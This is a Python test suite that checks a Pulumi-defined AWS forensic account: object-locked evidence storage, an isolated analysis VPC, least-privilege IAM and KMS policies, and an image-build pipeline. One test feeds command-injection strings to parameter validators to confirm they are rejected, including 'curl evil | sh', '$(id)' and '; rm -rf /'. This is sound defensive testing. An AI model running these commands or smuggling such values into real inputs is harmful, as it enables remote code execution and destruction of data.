"""The forensic stack, run once under Pulumi mocks: evidence storage, isolation, identities, toolset."""

from __future__ import annotations

import ipaddress
import json

import pytest
import yaml

from components import naming
from components.forensic_account import (
    INTERFACE_ENDPOINT_SERVICES,
    TOOLSET_AMI_UNSET,
    ForensicAccountArgs,
    subnet_cidrs,
    toolset_component_document,
)
from config import ConfigError
from handlers.common.evidence import manifest_signing_key_alias
from simulation.pulumi_mocks import RegisteredResource, run_program
from tests.infra.helpers import (
    actions,
    allowed_actions,
    grants,
    named,
    one,
    plain,
    policy_documents,
    policy_of,
    resources_of,
    sid,
    statements,
    statements_of,
)

PREFIX = "acme"
SECURITY = "123456789012"
FORENSIC = "222222222222"
REGION = "eu-west-1"
AZS = ["eu-west-1a", "eu-west-1b", "eu-west-1c"]
CONFIG = {
    "prefix": PREFIX,
    "securityAccount": SECURITY,
    "forensicAccount": FORENSIC,
    "objectLockMode": "GOVERNANCE",
    "evidenceRetentionDays": 400,
    "glacierAfterDays": 45,
    "logRetentionDays": 30,
    "analysisAzs": AZS,
    "analysisVpcCidr": "10.77.0.0/16",
    "buildVpcCidr": "10.78.0.0/16",
}
EVIDENCE = naming.evidence_bucket(PREFIX, FORENSIC, REGION)
EVIDENCE_ARN = f"arn:aws:s3:::{EVIDENCE}"
BUCKET = "aws:s3/bucket:Bucket"
VPC = "aws:ec2/vpc:Vpc"
SUBNET = "aws:ec2/subnet:Subnet"
ENDPOINT = "aws:ec2/vpcEndpoint:VpcEndpoint"
ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"
INTERNET = ("0.0.0.0/0", "::/0")
DESTRUCTIVE = (
    "s3:DeleteObject",
    "s3:DeleteObjectVersion",
    "s3:PutObjectRetention",
    "s3:BypassGovernanceRetention",
    "s3:PutBucketObjectLockConfiguration",
)


def run_forensic(**overrides: object) -> list[RegisteredResource]:
    return run_program("forensic", {**CONFIG, **overrides}, account=FORENSIC, region=REGION)


@pytest.fixture(scope="module")
def stack() -> list[RegisteredResource]:
    return run_forensic()


def by_bucket(stack: list[RegisteredResource], type_token: str) -> dict[str, RegisteredResource]:
    """Bucket settings resources keyed by the bucket they configure (the mock id is the bucket name)."""
    return {res.inputs["bucket"]: res for res in resources_of(stack, type_token)}


def key_arn(stack: list[RegisteredResource]) -> str:
    return str(named(stack, "forensic-key").outputs["arn"])


def analysis_vpc_id(stack: list[RegisteredResource]) -> str:
    return one(stack, VPC, "analysis").id


def analysis_subnets(stack: list[RegisteredResource]) -> list[RegisteredResource]:
    return [res for res in resources_of(stack, SUBNET) if res.inputs.get("vpcId") == analysis_vpc_id(stack)]


def role_policy(stack: list[RegisteredResource], role_logical_name: str) -> list[dict]:
    role = named(stack, role_logical_name)
    documents = [policy_of(res) for res in resources_of(stack, ROLE_POLICY) if res.inputs.get("role") == role.id]
    assert documents, f"{role_logical_name} has no inline policy"
    return [statement for document in documents for statement in statements_of(document)]


# -- evidence storage --------------------------------------------------------------------------


def test_evidence_bucket_is_object_locked_with_the_configured_mode_and_days(stack):
    bucket = one(stack, BUCKET, "evidence")
    assert bucket.inputs["bucket"] == EVIDENCE
    assert bucket.inputs["objectLockEnabled"] is True
    lock = by_bucket(stack, "aws:s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration")[EVIDENCE]
    assert lock.inputs["objectLockEnabled"] == "Enabled"
    assert lock.inputs["rule"]["defaultRetention"] == {"mode": "GOVERNANCE", "days": 400}


def test_every_bucket_is_versioned(stack):
    versioning = by_bucket(stack, "aws:s3/bucketVersioning:BucketVersioning")
    for bucket in resources_of(stack, BUCKET):
        assert versioning[bucket.id].inputs["versioningConfiguration"]["status"] == "Enabled", bucket.name


def test_every_bucket_blocks_all_public_access(stack):
    blocks = by_bucket(stack, "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock")
    buckets = resources_of(stack, BUCKET)
    assert len(buckets) >= 3
    for bucket in buckets:
        flags = blocks[bucket.id].inputs
        assert [
            flags.get(flag)
            for flag in ("blockPublicAcls", "blockPublicPolicy", "ignorePublicAcls", "restrictPublicBuckets")
        ] == [True] * 4, bucket.name


def test_every_symmetric_kms_key_rotates(stack):
    # The manifest signing key is asymmetric: AWS rotates symmetric encryption keys only.
    keys = [k for k in resources_of(stack, "aws:kms/key:Key") if not k.inputs.get("customerMasterKeySpec")]
    assert keys
    assert all(key.inputs.get("enableKeyRotation") is True for key in keys)


def test_manifest_signing_key_is_asymmetric_signs_for_automation_and_verifies_for_investigators(stack):
    key = named(stack, "forensic-manifest-signing-key")
    assert (key.inputs["customerMasterKeySpec"], key.inputs["keyUsage"]) == ("ECC_NIST_P256", "SIGN_VERIFY")
    statements = {st["Sid"]: st for st in json.loads(key.inputs["policy"])["Statement"]}
    automation, investigator = statements["AutomationSignsManifests"], statements["InvestigatorsVerifyManifests"]
    assert "kms:Sign" in automation["Action"] and "kms:Sign" not in investigator["Action"]
    assert {"kms:GetPublicKey", "kms:Verify"} <= set(investigator["Action"])
    assert automation["Principal"]["AWS"].endswith(f":role/{naming.forensic_automation_role(PREFIX)}")
    assert investigator["Principal"]["AWS"].endswith(f":role/{naming.investigator_role(PREFIX)}")
    aliases = {a.inputs["name"] for a in resources_of(stack, "aws:kms/alias:Alias")}
    assert manifest_signing_key_alias(PREFIX) in aliases


def test_evidence_bucket_encrypts_with_the_forensic_key_and_a_bucket_key(stack):
    encryption = by_bucket(
        stack, "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"
    )
    [rule] = encryption[EVIDENCE].inputs["rules"]
    assert rule["applyServerSideEncryptionByDefault"] == {"sseAlgorithm": "aws:kms", "kmsMasterKeyId": key_arn(stack)}
    assert rule["bucketKeyEnabled"] is True
    aliases = [a for a in resources_of(stack, "aws:kms/alias:Alias") if a.name.endswith("forensic-key-alias")]
    assert [a.inputs["name"] for a in aliases] == [naming.forensic_key_alias(PREFIX)]


def test_every_bucket_policy_denies_requests_without_tls(stack):
    policies = by_bucket(stack, "aws:s3/bucketPolicy:BucketPolicy")
    for bucket in resources_of(stack, BUCKET):
        tls = sid(statements_of(policy_of(policies[bucket.id])), "DenyInsecureTransport")
        assert tls["Effect"] == "Deny" and tls["Principal"] == "*" and grants(tls, "s3:GetObject")
        assert tls["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}


def test_evidence_policy_denies_puts_that_ask_for_other_encryption_but_not_puts_without_the_header(stack):
    evidence = statements_of(policy_of(by_bucket(stack, "aws:s3/bucketPolicy:BucketPolicy")[EVIDENCE]))
    algorithm = sid(evidence, "DenyEncryptionOtherThanKms")
    assert algorithm["Effect"] == "Deny" and actions(algorithm) == ["s3:PutObject"]
    # The Null test makes the deny apply only when the header is sent: writers rely on the default.
    assert algorithm["Condition"] == {
        "StringNotEquals": {"s3:x-amz-server-side-encryption": "aws:kms"},
        "Null": {"s3:x-amz-server-side-encryption": "false"},
    }
    key = sid(evidence, "DenyOtherKmsKeys")
    header = "s3:x-amz-server-side-encryption-aws-kms-key-id"
    assert key["Condition"] == {"StringNotEquals": {header: key_arn(stack)}, "Null": {header: "false"}}


def test_only_the_account_root_may_delete_evidence_or_weaken_its_retention(stack):
    evidence = statements_of(policy_of(by_bucket(stack, "aws:s3/bucketPolicy:BucketPolicy")[EVIDENCE]))
    guard = sid(evidence, "DenyEvidenceDestructionExceptRoot")
    assert guard["Effect"] == "Deny" and guard["Principal"] == "*"
    assert all(grants(guard, action) for action in DESTRUCTIVE)
    assert guard["Condition"] == {"ArnNotEquals": {"aws:PrincipalArn": f"arn:aws:iam::{FORENSIC}:root"}}
    assert set(guard["Resource"]) == {EVIDENCE_ARN, f"{EVIDENCE_ARN}/*"}


def test_evidence_access_is_logged_to_a_separate_sse_s3_bucket_that_s3_logging_may_write(stack):
    log_bucket = naming.access_log_bucket(PREFIX, FORENSIC, REGION)
    logging = by_bucket(stack, "aws:s3/bucketLogging:BucketLogging")[EVIDENCE]
    assert logging.inputs["targetBucket"] == log_bucket != EVIDENCE
    encryption = by_bucket(
        stack, "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"
    )[log_bucket]
    assert encryption.inputs["rules"][0]["applyServerSideEncryptionByDefault"]["sseAlgorithm"] == "AES256"
    delivery = sid(
        statements_of(policy_of(by_bucket(stack, "aws:s3/bucketPolicy:BucketPolicy")[log_bucket])),
        "S3ServerAccessLogDelivery",
    )
    assert delivery["Principal"] == {"Service": "logging.s3.amazonaws.com"}
    assert actions(delivery) == ["s3:PutObject"]
    assert EVIDENCE_ARN in delivery["Condition"]["ArnLike"]["aws:SourceArn"]
    assert delivery["Condition"]["StringEquals"] == {"aws:SourceAccount": FORENSIC}


def test_evidence_moves_to_glacier_then_expires_after_retention_and_abandoned_uploads_are_aborted(stack):
    lifecycle = by_bucket(stack, "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration")[EVIDENCE]
    [rule] = lifecycle.inputs["rules"]
    assert rule["status"] == "Enabled"
    assert rule["transitions"] == [{"days": 45, "storageClass": "GLACIER"}]
    assert rule["expiration"]["days"] == 400
    assert rule["noncurrentVersionTransitions"] == [{"noncurrentDays": 45, "storageClass": "GLACIER"}]
    assert rule["noncurrentVersionExpiration"]["noncurrentDays"] == 400
    assert rule["abortIncompleteMultipartUpload"] == {"daysAfterInitiation": 7}


# -- audit trail --------------------------------------------------------------------------------


def test_trail_is_multi_region_validated_and_records_data_events_on_evidence(stack):
    trail = one(stack, "aws:cloudtrail/trail:Trail")
    assert trail.inputs["isMultiRegionTrail"] is True
    assert trail.inputs["enableLogFileValidation"] is True
    assert trail.inputs["s3BucketName"] == naming.trail_bucket(PREFIX, FORENSIC, REGION)
    data = [
        selector
        for selector in trail.inputs["advancedEventSelectors"]
        if {"field": "eventCategory", "equals": ["Data"]} in selector["fieldSelectors"]
    ]
    assert len(data) == 1
    fields = {item["field"]: item for item in data[0]["fieldSelectors"]}
    assert fields["resources.type"]["equals"] == ["AWS::S3::Object"]
    assert fields["resources.ARN"]["startsWiths"] == [f"{EVIDENCE_ARN}/"]


def test_trail_bucket_lets_only_this_trail_deliver(stack):
    trail_bucket = naming.trail_bucket(PREFIX, FORENSIC, REGION)
    policy = statements_of(policy_of(by_bucket(stack, "aws:s3/bucketPolicy:BucketPolicy")[trail_bucket]))
    write = sid(policy, "CloudTrailWrite")
    assert write["Principal"] == {"Service": "cloudtrail.amazonaws.com"}
    assert write["Condition"]["StringEquals"]["aws:SourceArn"] == (
        f"arn:aws:cloudtrail:{REGION}:{FORENSIC}:trail/{one(stack, 'aws:cloudtrail/trail:Trail').inputs['name']}"
    )


# -- analysis network ---------------------------------------------------------------------------


def test_analysis_vpc_has_no_internet_nat_or_egress_only_gateway(stack):
    vpc_id = analysis_vpc_id(stack)
    subnet_ids = {subnet.id for subnet in analysis_subnets(stack)}
    for type_token in (
        "aws:ec2/internetGateway:InternetGateway",
        "aws:ec2/egressOnlyInternetGateway:EgressOnlyInternetGateway",
        "aws:ec2/internetGatewayAttachment:InternetGatewayAttachment",
    ):
        assert [res.name for res in resources_of(stack, type_token) if res.inputs.get("vpcId") == vpc_id] == []
    assert [
        res.name
        for res in resources_of(stack, "aws:ec2/natGateway:NatGateway")
        if res.inputs.get("subnetId") in subnet_ids
    ] == []


def test_no_route_in_the_analysis_vpc_leads_to_the_internet(stack):
    vpc_id = analysis_vpc_id(stack)
    tables = [
        table for table in resources_of(stack, "aws:ec2/routeTable:RouteTable") if table.inputs.get("vpcId") == vpc_id
    ]
    assert len(tables) >= 1
    table_ids = {table.id for table in tables}
    for table in tables:
        assert table.inputs.get("routes") == [], f"{table.name} carries inline routes"
    routes = resources_of(stack, "aws:ec2/route:Route")
    assert [route.name for route in routes if route.inputs.get("routeTableId") in table_ids] == []
    # Every subnet of the analysis VPC is associated with one of those local-only tables.
    associations = {
        res.inputs["subnetId"]: res.inputs["routeTableId"]
        for res in resources_of(stack, "aws:ec2/routeTableAssociation:RouteTableAssociation")
    }
    assert all(associations[subnet.id] in table_ids for subnet in analysis_subnets(stack))
    # The scan sees routes at all: the build VPC's way out is there, and it is not analysis.
    internet_routes = [
        route
        for route in routes
        if {route.inputs.get("destinationCidrBlock"), route.inputs.get("destinationIpv6CidrBlock")} & set(INTERNET)
    ]
    assert internet_routes and all("analysis" not in route.name for route in internet_routes)


def test_analysis_vpc_reaches_s3_through_a_gateway_and_aws_apis_through_private_interface_endpoints(stack):
    vpc_id = analysis_vpc_id(stack)
    endpoints = {
        res.inputs["serviceName"]: res for res in resources_of(stack, ENDPOINT) if res.inputs.get("vpcId") == vpc_id
    }
    s3 = endpoints.pop(f"com.amazonaws.{REGION}.s3")
    assert s3.inputs["vpcEndpointType"] == "Gateway"
    tables = {
        table.id
        for table in resources_of(stack, "aws:ec2/routeTable:RouteTable")
        if table.inputs.get("vpcId") == vpc_id
    }
    assert set(s3.inputs["routeTableIds"]) == tables
    assert set(endpoints) == {f"com.amazonaws.{REGION}.{service}" for service in INTERFACE_ENDPOINT_SERVICES}
    assert set(INTERFACE_ENDPOINT_SERVICES) == {"ssm", "ssmmessages", "ec2messages", "kms", "logs", "sts"}
    subnet_ids = {subnet.id for subnet in analysis_subnets(stack)}
    endpoint_group = one(stack, "aws:ec2/securityGroup:SecurityGroup", "analysis-endpoint-sg")
    for endpoint in endpoints.values():
        assert endpoint.inputs["vpcEndpointType"] == "Interface"
        assert endpoint.inputs["privateDnsEnabled"] is True, endpoint.name
        assert set(endpoint.inputs["subnetIds"]) == subnet_ids
        assert endpoint.inputs["securityGroupIds"] == [endpoint_group.id]
    [ingress] = endpoint_group.inputs["ingress"]
    assert (ingress["fromPort"], ingress["toPort"], ingress["cidrBlocks"]) == (443, 443, ["10.77.0.0/16"])


def test_analysis_subnets_span_every_configured_zone_and_give_no_public_addresses(stack):
    subnets = analysis_subnets(stack)
    assert sorted(subnet.inputs["availabilityZone"] for subnet in subnets) == AZS
    assert all(subnet.inputs.get("mapPublicIpOnLaunch") is not True for subnet in subnets)
    vpc = ipaddress.IPv4Network(one(stack, VPC, "analysis").inputs["cidrBlock"])
    networks = [ipaddress.IPv4Network(subnet.inputs["cidrBlock"]) for subnet in subnets]
    assert all(network.subnet_of(vpc) for network in networks)
    assert not any(a.overlaps(b) for i, a in enumerate(networks) for b in networks[i + 1 :])


def test_analysis_instances_accept_nothing_and_speak_only_https(stack):
    group = one(stack, "aws:ec2/securityGroup:SecurityGroup", "analysis-sg")
    assert group.inputs["ingress"] == []
    assert {(rule["protocol"], rule["fromPort"], rule["toPort"]) for rule in group.inputs["egress"]} == {
        ("tcp", 443, 443)
    }
    cidrs = [cidr for rule in group.inputs["egress"] for cidr in rule.get("cidrBlocks", [])]
    assert cidrs == ["10.77.0.0/16"]
    default = one(stack, "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup", "analysis")
    assert default.inputs["ingress"] == [] and default.inputs["egress"] == []


def test_toolset_builds_in_its_own_vpc_with_internet_and_publishes_the_ami_to_the_parameter(stack):
    build_vpc = one(stack, VPC, "build")
    assert "analysis" not in build_vpc.name
    gateway = one(stack, "aws:ec2/internetGateway:InternetGateway")
    assert gateway.inputs["vpcId"] == build_vpc.id and "build" in gateway.name
    infrastructure = one(stack, "aws:imagebuilder/infrastructureConfiguration:InfrastructureConfiguration")
    build_subnet = named(stack, "forensic-toolset-build-subnet")
    assert build_subnet.inputs["vpcId"] == build_vpc.id
    assert infrastructure.inputs["subnetId"] == build_subnet.id
    recipe = one(stack, "aws:imagebuilder/imageRecipe:ImageRecipe")
    assert recipe.inputs["parentImage"] == "ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
    pipeline = one(stack, "aws:imagebuilder/imagePipeline:ImagePipeline")
    assert pipeline.inputs["schedule"]["scheduleExpression"].startswith("cron(")
    parameter = one(stack, "aws:ssm/parameter:Parameter")
    assert parameter.inputs["name"] == naming.toolset_ami_parameter(PREFIX)
    assert plain(parameter.inputs["value"]) == TOOLSET_AMI_UNSET
    distribution = one(stack, "aws:imagebuilder/distributionConfiguration:DistributionConfiguration")
    [target] = distribution.inputs["distributions"]
    assert target["region"] == REGION
    assert [item["parameterName"] for item in target["ssmParameterConfigurations"]] == [
        naming.toolset_ami_parameter(PREFIX)
    ]


def test_toolset_component_installs_every_forensic_tool_and_checks_them():
    document = yaml.safe_load(toolset_component_document("acme-ir-toolset-bucket"))
    phases = {
        phase["name"]: [command for step in phase["steps"] for command in step["inputs"]["commands"]]
        for phase in document["phases"]
    }
    build = "\n".join(phases["build"])
    for needle in (
        "sleuthkit",
        "xfsprogs",
        "volatility3",
        "yara-python",
        "libfsxfs-python",
        "dwarf2json",
        "go build",
        "s3://acme-ir-toolset-bucket/",
        "/opt/irforensics[forensics]",
    ):
        assert needle in build, needle
    validate = "\n".join(phases["validate"])
    for needle in ("fls -V", "vol --help", "import yara, pyfsxfs"):
        assert needle in validate, needle


# -- identities ---------------------------------------------------------------------------------


def test_no_iam_statement_anywhere_allows_every_action(stack):
    found = list(statements(stack))
    assert len(found) > 40  # every policy in the stack was parsed, not none
    wildcards = [
        (res.name, statement.get("Sid"))
        for res, statement in found
        if statement.get("Effect") == "Allow" and ("*" in actions(statement) or "NotAction" in statement)
    ]
    assert wildcards == []


def test_forensic_automation_role_is_assumable_only_by_the_security_lambda_roles(stack):
    role = named(stack, "forensic-automation-role")
    assert role.inputs["name"] == naming.forensic_automation_role(PREFIX)
    [trust] = statements_of(policy_of(role, "assumeRolePolicy"))
    assert trust["Principal"] == {"AWS": f"arn:aws:iam::{SECURITY}:root"}
    assert trust["Condition"] == {"ArnLike": {"aws:PrincipalArn": naming.lambda_role_pattern(PREFIX, SECURITY)}}


def test_forensic_automation_role_can_do_its_job_and_no_more(stack):
    policy = role_policy(stack, "forensic-automation-role")
    assert set(allowed_actions(policy)) == {
        "ec2:CopySnapshot",
        "ec2:DescribeSnapshots",
        "ec2:CreateTags",
        "ec2:LockSnapshot",
        "ebs:ListSnapshotBlocks",
        "ebs:GetSnapshotBlock",
        "ec2:RunInstances",
        "ec2:TerminateInstances",
        "ec2:DescribeInstances",
        "ec2:DescribeImages",
        "ec2:DescribeSecurityGroups",
        "ec2:DescribeSubnets",
        "ec2:DescribeVpcs",
        "ssm:GetParameter",
        "ssm:SendCommand",
        "ssm:GetCommandInvocation",
        "iam:PassRole",
        "s3:PutObject",
        "s3:GetObject",
        "s3:ListBucket",
        "s3:AbortMultipartUpload",
        "s3:ListMultipartUploadParts",
        "kms:Decrypt",
        "kms:GenerateDataKey",
        "kms:GenerateDataKeyWithoutPlaintext",
        "kms:ReEncryptTo",
        "kms:DescribeKey",
        "kms:CreateGrant",
        "kms:ReEncryptFrom",
        # The manifest signing key (issue 17): sign each case's manifest digest, store its public key.
        "kms:Sign",
        "kms:GetPublicKey",
    }
    signing = sid(policy, "SignManifests")
    assert signing["Resource"] == [str(named(stack, "forensic-manifest-signing-key").outputs["arn"])]
    tags = [statement for statement in policy if grants(statement, "ec2:CreateTags")]
    assert all("ec2:CreateAction" in statement["Condition"]["StringEquals"] for statement in tags)
    member_keys = sid(policy, "ReadMemberSnapshotKeys")
    assert member_keys["Resource"] == ["arn:aws:kms:*:*:key/*"]
    assert member_keys["Condition"] == {
        "ForAnyValue:StringEquals": {"kms:ResourceAliases": naming.member_ebs_key_alias(PREFIX)},
        "StringEquals": {"aws:ResourceOrgID": "${aws:PrincipalOrgID}"},
    }
    passing = sid(policy, "PassAnalysisRole")
    assert passing["Resource"] == [f"arn:aws:iam::{FORENSIC}:role/{naming.analysis_profile(PREFIX)}"]
    run = sid(policy, "RunAnalysisInstances")
    subnet_arns = [arn for arn in run["Resource"] if ":subnet/" in arn]
    assert sorted(subnet_arns) == sorted(
        f"arn:aws:ec2:{REGION}:{FORENSIC}:subnet/{subnet.id}" for subnet in analysis_subnets(stack)
    )


def test_analysis_instances_read_evidence_and_write_only_findings(stack):
    role = named(stack, "forensic-analysis-instance-role")
    assert role.inputs["name"] == naming.analysis_profile(PREFIX)
    attachment = one(stack, "aws:iam/rolePolicyAttachment:RolePolicyAttachment", "analysis")
    assert attachment.inputs["policyArn"].endswith("/AmazonSSMManagedInstanceCore")
    policy = role_policy(stack, "forensic-analysis-instance-role")
    writes = [s for s in policy if grants(s, "s3:PutObject") and s["Effect"] == "Allow"]
    assert [statement["Resource"] for statement in writes] == [
        [f"{EVIDENCE_ARN}/*/analysis/*", f"{EVIDENCE_ARN}/*/report/*"]
    ]
    profile = one(stack, "aws:iam/instanceProfile:InstanceProfile", "analysis")
    assert profile.inputs["name"] == naming.analysis_profile(PREFIX)


def test_investigator_role_reads_evidence_and_may_delete_or_change_nothing(stack):
    role = named(stack, "forensic-investigator-role")
    assert role.inputs["name"] == naming.investigator_role(PREFIX)
    [trust] = statements_of(policy_of(role, "assumeRolePolicy"))
    assert trust["Principal"] == {"AWS": f"arn:aws:iam::{FORENSIC}:root"}
    policy = role_policy(stack, "forensic-investigator-role")
    allowed = allowed_actions(policy)
    assert {
        "s3:GetObject",
        "s3:GetObjectVersion",
        "s3:ListBucket",
        "s3:ListBucketVersions",
        "s3:GetObjectRetention",
        "s3:GetObjectLegalHold",
        "kms:Decrypt",
    } <= set(allowed)
    assert [
        action
        for action in allowed
        if "delete" in action.lower() or action.startswith("s3:Put") or "bypass" in action.lower()
    ] == []
    denied = [statement for statement in policy if statement["Effect"] == "Deny"]
    for action in (*DESTRUCTIVE, "s3:PutObjectLegalHold", "s3:PutObject"):
        assert any(grants(statement, action) for statement in denied), action


def test_key_policy_names_the_evidence_roles_and_nothing_of_the_security_account(stack):
    key = named(stack, "forensic-key")
    policy = statements_of(policy_of(key))
    principals = {str(principal) for statement in policy for principal in statement["Principal"].values()}
    assert SECURITY not in " ".join(principals)
    automation = naming.forensic_automation_role_arn(PREFIX, FORENSIC)
    investigator = f"arn:aws:iam::{FORENSIC}:role/{naming.investigator_role(PREFIX)}"
    use = sid(policy, "EvidenceRolesUseKey")
    assert automation in use["Principal"]["AWS"]
    grant = sid(policy, "EvidenceRolesGrantToAwsServices")
    assert grant["Condition"] == {"Bool": {"kms:GrantIsForAWSResource": "true"}}
    reader = sid(policy, "InvestigatorsDecrypt")
    assert reader["Principal"] == {"AWS": investigator}
    assert sorted(actions(reader)) == ["kms:Decrypt", "kms:DescribeKey"]
    admin = sid(policy, "AccountAdministersKey")
    assert not any(grants(admin, action) for action in ("kms:Decrypt", "kms:Encrypt", "kms:GenerateDataKey"))


def test_every_policy_document_in_the_stack_is_parsed_from_its_resource(stack):
    carriers = {res.type for res in stack if list(policy_documents(res))}
    assert {
        "aws:iam/role:Role",
        ROLE_POLICY,
        "aws:s3/bucketPolicy:BucketPolicy",
        "aws:kms/key:Key",
        ENDPOINT,
    } <= carriers


# -- configuration reaching the stack -----------------------------------------------------------


def test_compliance_mode_from_config_reaches_the_lock_configuration():
    resources = run_forensic(objectLockMode="COMPLIANCE", evidenceRetentionDays=2555)
    lock = by_bucket(resources, "aws:s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration")[EVIDENCE]
    assert lock.inputs["rule"]["defaultRetention"] == {"mode": "COMPLIANCE", "days": 2555}


def test_a_thirteen_digit_account_id_stops_the_program_naming_the_key():
    with pytest.raises(ConfigError) as raised:
        run_forensic(securityAccount="1234567890123")
    assert raised.value.key == "securityAccount"
    assert "1234567890123" in str(raised.value)


def test_args_refuse_a_single_zone_and_a_vpc_too_small_for_its_subnets():
    def args(azs: tuple[str, ...] = ("eu-west-1a", "eu-west-1b"), cidr: str = "10.77.0.0/16") -> ForensicAccountArgs:
        return ForensicAccountArgs(
            prefix=PREFIX,
            account=FORENSIC,
            region=REGION,
            security_account=SECURITY,
            analysis_azs=azs,
            analysis_vpc_cidr=cidr,
        )

    assert args().analysis_azs == ("eu-west-1a", "eu-west-1b")
    with pytest.raises(ValueError, match="two or more availability zones"):
        args(azs=("eu-west-1a",))
    with pytest.raises(ValueError, match="between /16 and /24"):
        args(cidr="10.0.0.0/26")
    with pytest.raises(ValueError, match="not an IPv4 network"):
        subnet_cidrs("10.77.0.0/33", 2)
    assert subnet_cidrs("10.77.0.0/16", 3) == ["10.77.0.0/20", "10.77.16.0/20", "10.77.32.0/20"]


# --- issue 15, findings 4 and 6: what the audit found, each with the bound that fixes it ---------------


def _analysis_allows(stack, action, resource, context=None):
    from simulation.api_calls import evaluate

    return evaluate([{"Statement": role_policy(stack, "forensic-analysis-instance-role")}], action, [resource], context)


def test_the_examination_output_has_its_log_group_and_the_analysis_role_may_write_it(stack):
    group = one(stack, "aws:cloudwatch/logGroup:LogGroup", "examination")
    assert group.inputs["name"] == f"/{PREFIX}/irforensics/examination"
    group_arn = f"arn:aws:logs:{REGION}:{FORENSIC}:log-group:/{PREFIX}/irforensics/examination"
    stream = f"{group_arn}:log-stream:cmd/i-0/aws-runShellScript/stdout"
    for action in ("logs:CreateLogStream", "logs:PutLogEvents"):
        assert _analysis_allows(stack, action, stream).allowed, action
    other = f"arn:aws:logs:{REGION}:{FORENSIC}:log-group:/aws/lambda/anything:log-stream:x"
    assert not _analysis_allows(stack, "logs:PutLogEvents", other).allowed


def test_findings_are_written_only_right_under_a_case(stack):
    case = "333333333333-i-0123456789abcdef0-eu-west-1-1700000000"
    assert _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/analysis/timeline.csv").allowed
    assert _analysis_allows(
        stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/analysis/volatility/linux.pslist.json"
    ).allowed
    assert _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{case}/report/report.html").allowed
    # `*` crosses "/": these matched the old pattern and overwrote evidence-looking keys.
    for key in (f"{case}/disk/analysis/vol-0.img", f"{case}/memory/report/i-0.lime", "a/b/analysis/x"):
        assert not _analysis_allows(stack, "s3:PutObject", f"{EVIDENCE_ARN}/{key}").allowed, key


def _automation_allows(stack, action, resources, context):
    from simulation.api_calls import evaluate

    return evaluate([{"Statement": role_policy(stack, "forensic-automation-role")}], action, resources, context)


def test_examination_commands_run_only_the_project_document_on_instances_the_automation_launched(stack):
    document = one(stack, "aws:ssm/document:Document", "examination")
    assert document.inputs["name"] == naming.examination_document(PREFIX)
    content = json.loads(document.inputs["content"])
    assert all("allowedPattern" in p for p in content["parameters"].values())
    own = f"arn:aws:ssm:{REGION}:{FORENSIC}:document/{naming.examination_document(PREFIX)}"
    analysis = {"aws:ResourceTag/*": True, "aws:ResourceTag/irforensics:managed-by": "irforensics"}
    other_instance = {"aws:ResourceTag/*": True, "aws:ResourceTag/Name": "image-builder"}
    instance = f"arn:aws:ec2:{REGION}:{FORENSIC}:instance/i-0123456789abcdef0"
    assert _automation_allows(stack, "ssm:SendCommand", [own], {}).allowed
    assert _automation_allows(stack, "ssm:SendCommand", [instance], analysis).allowed
    assert not _automation_allows(stack, "ssm:SendCommand", [instance], other_instance).allowed
    shell = f"arn:aws:ssm:{REGION}::document/AWS-RunShellScript"
    assert not _automation_allows(stack, "ssm:SendCommand", [shell], {}).allowed


def test_examination_document_parameters_refuse_shell_text(stack):
    import re

    content = json.loads(one(stack, "aws:ssm/document:Document", "examination").inputs["content"])
    patterns = {name: re.compile(p["allowedPattern"]) for name, p in content["parameters"].items()}
    assert patterns["CaseId"].match("333333333333-i-0123456789abcdef0-eu-west-1-1700000000")
    assert not patterns["CaseId"].match("x; curl evil | sh")
    assert not patterns["Bucket"].match("bucket$(id)")
    assert patterns["IncidentStart"].match("") and patterns["IncidentStart"].match("2024-06-01T00:00:00+00:00")
    assert not patterns["IncidentEnd"].match('2024-06-01T00:00:00Z"; rm -rf /')


def test_analysis_instances_start_only_from_images_this_account_owns(stack):
    image = f"arn:aws:ec2:{REGION}::image/ami-0123456789abcdef0"
    assert _automation_allows(stack, "ec2:RunInstances", [image], {"ec2:Owner": FORENSIC}).allowed
    for owner in ("amazon", "aws-marketplace", "999999999999"):
        assert not _automation_allows(stack, "ec2:RunInstances", [image], {"ec2:Owner": owner}).allowed, owner
